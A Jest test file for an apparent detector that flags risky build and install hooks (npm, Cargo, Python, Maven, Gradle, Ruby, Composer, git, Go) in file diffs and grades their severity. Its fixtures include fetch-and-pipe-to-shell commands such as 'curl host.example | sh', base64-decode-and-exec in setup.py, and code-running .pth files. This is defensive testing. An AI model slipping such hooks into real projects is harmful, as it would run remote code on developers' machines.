import { expect, test } from "../../support/jest.ts";
import { type Given, said } from "./compared.ts";

/** Before and after of one file, and what is to be said: `severity kind`, nothing for an innocent look-alike. */
type Row = readonly [what: string, path: string, before: string | null, after: string | null, ...expected: string[]];

const scripts = (given: object): string => JSON.stringify({ name: "a", scripts: given });
const FETCH = "curl -s https://host.example/x | sh";

const ROWS: readonly Row[] = [
  // npm
  ["npm: a new postinstall", "package.json", scripts({}), scripts({ postinstall: "node x.js" }), "high hook-added"],
  [
    "npm: a new preinstall in a new package",
    "packages/b/package.json",
    null,
    scripts({ preinstall: "node x.js" }),
    "high hook-added",
  ],
  ["npm: a script that fetches", "package.json", scripts({}), scripts({ prepare: FETCH }), "high hook-added"],
  [
    "npm: an old hook that now fetches",
    "package.json",
    scripts({ install: "make" }),
    scripts({ install: `make && ${FETCH}` }),
    "high hook-changed",
  ],
  [
    "npm: an old hook with another command",
    "package.json",
    scripts({ postinstall: "node a.js" }),
    scripts({ postinstall: "node b.js" }),
    "medium hook-changed",
  ],
  [
    "npm: a second key of the same name",
    "package.json",
    '{"scripts":{"install":"node a.js"}}',
    '{"scripts":{"install":"node a.js","install":"node b.js"}}',
    "high hook-added",
  ],
  [
    "npm: a hook whose name is escaped",
    "package.json",
    "{}",
    '{"scripts":{"post\\u0069nstall":"node x.js"}}',
    "high hook-added",
  ],
  [
    "npm: a hook under a key of the prototype",
    "package.json",
    "{}",
    '{"__proto__":{"scripts":{}},"scripts":{"preinstall":"node x.js"}}',
    "high hook-added",
  ],
  [
    "npm: a prepare of one's own",
    "package.json",
    scripts({}),
    scripts({ prepare: "node tools/setup.mjs" }),
    "medium hook-added",
  ],
  ["npm: husky is set up", "package.json", scripts({}), scripts({ prepare: "husky" })],
  [
    "npm: husky is set up where it is there",
    "package.json",
    scripts({}),
    scripts({ prepare: "is-ci || husky install" }),
  ],
  ["npm: a build before publishing", "package.json", scripts({}), scripts({ prepare: "npm run build" })],
  [
    "npm: patches are laid on",
    "package.json",
    scripts({}),
    scripts({ postinstall: "patch-package" }),
    "low hook-added",
  ],
  [
    "npm: a tool's name before another command",
    "package.json",
    scripts({}),
    scripts({ postinstall: "patch-package && node x.js" }),
    "high hook-added",
  ],
  [
    "npm: a script that nothing runs by itself",
    "package.json",
    scripts({}),
    scripts({ start: FETCH, "post-install": "node x.js" }),
  ],
  [
    "npm: other blanks",
    "package.json",
    '{"scripts":{"install":"make  a"}}',
    '{\n  "scripts": { "install": "make a" }\n}',
  ],
  ["npm: a hook is taken out", "package.json", scripts({ postinstall: FETCH }), scripts({}), "low hook-removed"],
  ["npm: a hook of an installed copy", "package.json", "{}", '{"dependencies":{"b":"^1"}}'],
  [
    "npm: git hooks in the manifest",
    "package.json",
    "{}",
    '{"simple-git-hooks":{"pre-commit":"node x.js"}}',
    "medium hook-added",
  ],
  ["npm: scripts run by another shell", ".npmrc", "", "script-shell=./tools/sh\n", "high hook-added"],
  ["pnpm: a file of hooks", ".pnpmfile.cjs", null, "module.exports = { hooks: {} }", "high hook-added"],
  [
    "yarn: another program in its place",
    ".yarnrc.yml",
    "nodeLinker: node-modules\n",
    "nodeLinker: node-modules\nyarnPath: tools/y.cjs\n",
    "high hook-added",
  ],
  [
    "yarn: its own release is updated",
    ".yarnrc.yml",
    "yarnPath: .yarn/releases/yarn-4.1.0.cjs\n",
    "yarnPath: .yarn/releases/yarn-4.2.0.cjs\n",
  ],
  [
    "yarn: a plugin from an address",
    ".yarnrc.yml",
    "a: b\n",
    'plugins:\n  - path: .yarn/plugins/p.cjs\n    spec: "https://host.example/p.js"\n',
    "high hook-added",
  ],
  [
    "yarn: a plugin of its own",
    ".yarnrc.yml",
    "a: b\n",
    'plugins:\n  - path: .yarn/plugins/@yarnpkg/plugin-x.cjs\n    spec: "@yarnpkg/plugin-workspace-tools"\n',
  ],
  ["bun: code before every run", "bunfig.toml", "", 'preload = ["./x.ts"]\n', "medium hook-added"],
  [
    "npm: a native addon",
    "binding.gyp",
    null,
    "{ 'targets': [{ 'target_name': 'a', 'sources': ['a.cc'] }] }",
    "high hook-added",
  ],
  [
    "npm: a native addon that starts a program",
    "binding.gyp",
    "{ 'targets': [] }",
    "{ 'targets': [{ 'x': '<!(node x.js)' }] }",
    "low code-acts",
  ],
  // Cargo
  ["cargo: a new build script", "build.rs", null, "fn main() {}", "medium hook-added"],
  [
    "cargo: a build script that fetches",
    "build.rs",
    "fn main() {}",
    'fn main() { Command::new("sh").arg("-c").arg("curl host.example | sh"); }',
    "low code-acts",
    "high code-acts",
    "medium code-acts",
  ],
  ["cargo: a build script with a new comment", "build.rs", "fn main() {}", '// Command::new("sh")\nfn main() {}'],
  [
    "cargo: another file as build script",
    "Cargo.toml",
    '[package]\nname = "a"\n',
    '[package]\nname = "a"\nbuild = "tools/b.rs"\n',
    "medium hook-added",
  ],
  [
    "cargo: the usual build script is named",
    "Cargo.toml",
    '[package]\nname = "a"\n',
    '[package]\nname = "a"\nbuild = "build.rs"\n',
  ],
  [
    "cargo: a wrapper around the compiler",
    ".cargo/config.toml",
    "",
    '[build]\nrustc-wrapper = "./w.sh"\n',
    "medium hook-added",
  ],
  [
    "cargo: a linker by a dotted key",
    ".cargo/config.toml",
    "",
    'target.x86_64-unknown-linux-gnu.linker = "./l.sh"\n',
    "medium hook-added",
  ],
  ["cargo: an alias", ".cargo/config.toml", "", '[alias]\nxtask = "run --package xtask --"\n'],
  [
    "cargo: another release of the toolchain",
    "rust-toolchain.toml",
    '[toolchain]\nchannel = "1.80"\n',
    '[toolchain]\nchannel = "1.81"\n',
  ],
  // Python
  ["pypi: a new setup.py", "setup.py", null, "from setuptools import setup\nsetup()", "low hook-added"],
  [
    "pypi: a setup.py that decodes and runs",
    "setup.py",
    "setup()",
    "import base64\nexec(base64.b64decode('eA=='))\nsetup()",
    "medium code-acts",
    "high code-acts",
    "medium code-acts",
  ],
  ["pypi: commands of one's own", "setup.py", "setup()", "setup(cmdclass={'install': Own})", "medium hook-added"],
  ["pypi: a path file that runs code", "src/a.pth", null, "import os; os.system('x')\n", "high hook-added"],
  ["pypi: a path file that lists folders", "src/a.pth", null, "./lib\n"],
  ["pypi: code at every start of Python", "sitecustomize.py", null, "x = 1", "high hook-added"],
  ["pypi: fixtures for tests", "tests/conftest.py", null, "import pytest\n", "low hook-added"],
  [
    "pypi: fixtures that load",
    "tests/conftest.py",
    "import pytest\n",
    "import urllib.request\nurllib.request.urlopen('https://host.example')\n",
    "medium code-acts",
  ],
  [
    "pypi: a build system inside the checkout",
    "pyproject.toml",
    "[build-system]\nrequires = []\n",
    '[build-system]\nrequires = []\nbackend-path = ["tools"]\n',
    "medium hook-added",
  ],
  ["pypi: another part of setup.cfg", "setup.cfg", "[metadata]\nname = a\n", "[metadata]\nname = a\nversion = 2\n"],
  // JVM
  [
    "maven: a plugin that runs programs",
    "pom.xml",
    "<project></project>",
    "<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><executions><execution><goals><goal>exec</goal></goals></execution></executions><configuration><executable>./x.sh</executable></configuration></plugin></plugins></build></project>",
    "medium hook-added",
  ],
  [
    "maven: a plugin that compiles",
    "pom.xml",
    "<project></project>",
    "<project><build><plugins><plugin><artifactId>maven-compiler-plugin</artifactId></plugin></plugins></build></project>",
  ],
  [
    "maven: an extension of Maven itself",
    ".mvn/extensions.xml",
    null,
    "<extensions><extension><groupId>g</groupId><artifactId>a</artifactId></extension></extensions>",
    "medium hook-added",
  ],
  ["maven: an agent in the build's Java", ".mvn/jvm.config", "-Xmx1g", "-Xmx1g -javaagent:x.jar", "medium hook-added"],
  ["maven: more memory", ".mvn/jvm.config", "-Xmx1g", "-Xmx2g"],
  ["gradle: the wrapper's program", "gradle/wrapper/gradle-wrapper.jar", "aaaa", "bbbbbb", "medium hook-changed"],
  [
    "gradle: a script that starts a program",
    "build.gradle",
    "task a {}",
    "task a { exec { commandLine 'x' } }",
    "low code-acts",
    "low code-acts",
  ],
  [
    "gradle: an agent in the build's Java",
    "gradle.properties",
    "",
    "org.gradle.jvmargs=-javaagent:x.jar\n",
    "medium hook-added",
  ],
  // Ruby
  [
    "ruby: an extension of a gem",
    "a.gemspec",
    "Gem::Specification.new { |s| s.name = 'a' }",
    "Gem::Specification.new do |s|\n  s.extensions = ['ext/extconf.rb']\nend",
    "high hook-added",
  ],
  ["ruby: a Gemfile that starts a program", "Gemfile", "gem 'a'", "gem 'a'\nsystem('x')", "low code-acts"],
  ["ruby: a plugin of Bundler", "Gemfile", "gem 'a'", "gem 'a'\nplugin 'b'", "high hook-added"],
  ["ruby: files of a gem", "a.gemspec", "s.files = ['a.rb']", "s.files = ['a.rb', 'b.rb']"],
  ["ruby: a task", "Rakefile", "task :a", "task :a do\n  ruby 'x.rb'\nend"],
  // Composer
  [
    "composer: a script after each install",
    "composer.json",
    "{}",
    '{"scripts":{"post-install-cmd":["A\\\\B::c"]}}',
    "high hook-added",
  ],
  ["composer: a script for people", "composer.json", "{}", '{"scripts":{"test":"phpunit"}}'],
  [
    "composer: the package becomes a plugin",
    "composer.json",
    '{"type":"library"}',
    '{"type":"composer-plugin"}',
    "high hook-added",
  ],
  ["composer: any plugin may run", "composer.json", "{}", '{"config":{"allow-plugins":true}}', "high protection-off"],
  [
    "composer: a plugin that may run",
    "composer.json",
    "{}",
    '{"config":{"allow-plugins":{"a/b":true}}}',
    "low protection-off",
  ],
  // git, make, Go
  ["git: a new hook", ".husky/pre-commit", null, "#!/bin/sh\nnode x.js\n", "medium hook-added"],
  [
    "git: another line of a hook",
    ".husky/pre-commit",
    "npx lint-staged\n",
    "npx lint-staged\nnode x.js\n",
    "medium hook-added",
  ],
  [
    "git: a hook that fetches",
    "lefthook.yml",
    "pre-commit:\n",
    `pre-commit:\n  commands:\n    a:\n      run: ${FETCH}\n`,
    "medium hook-added",
  ],
  ["git: lint before commits", ".husky/pre-commit", null, "npx lint-staged\n"],
  [
    "git: a submodule that runs a command",
    ".gitmodules",
    '[submodule "a"]\n\turl = https://github.com/our-org/a\n',
    '[submodule "a"]\n\turl = https://github.com/our-org/a\n\tupdate = !sh x\n',
    "high hook-added",
  ],
  ["make: a target that fetches", "Makefile", "a:\n\ttrue\n", `a:\n\t${FETCH}\n`, "low code-acts"],
  ["make: another target", "Makefile", "a:\n\ttrue\n", "a:\n\ttrue\nb:\n\tgcc b.c\n"],
  [
    "go: a function that runs when imported",
    "a_test.go",
    "package a\nfunc init() { x = 1 }\n",
    'package a\nfunc init() {\n\texec.Command("sh", "-c", "curl host.example | sh").Run()\n}\n',
    "high code-acts",
    "medium code-acts",
  ],
  [
    "go: the same in an ordinary function",
    "a.go",
    "package a\n",
    'package a\nfunc run() {\n\texec.Command("sh").Run()\n}\n',
  ],
];

test.each(ROWS)("build hooks: %s", (_what, path, before, after, ...expected) => {
  expect(said({ path, before, after })).toEqual(expected.toSorted());
});

const runsHeads: Given["around"] = { runsHeads: true };

test.each<readonly [string, string, string, string, string]>([
  ["a new postinstall", "package.json", scripts({}), scripts({ postinstall: "node x.js" }), "critical hook-added"],
  ["a changed one", "package.json", scripts({ install: "a" }), scripts({ install: "b" }), "high hook-changed"],
  ["a usual tool", "package.json", scripts({}), scripts({ postinstall: "patch-package" }), "low hook-added"],
  ["a git hook", ".husky/pre-commit", "", "node x.js\n", "medium hook-added"],
])("build hooks: where a workflow runs heads with rights, %s", (_what, path, before, after, expected) => {
  expect(said({ path, before, after, around: runsHeads })).toEqual([expected]);
});
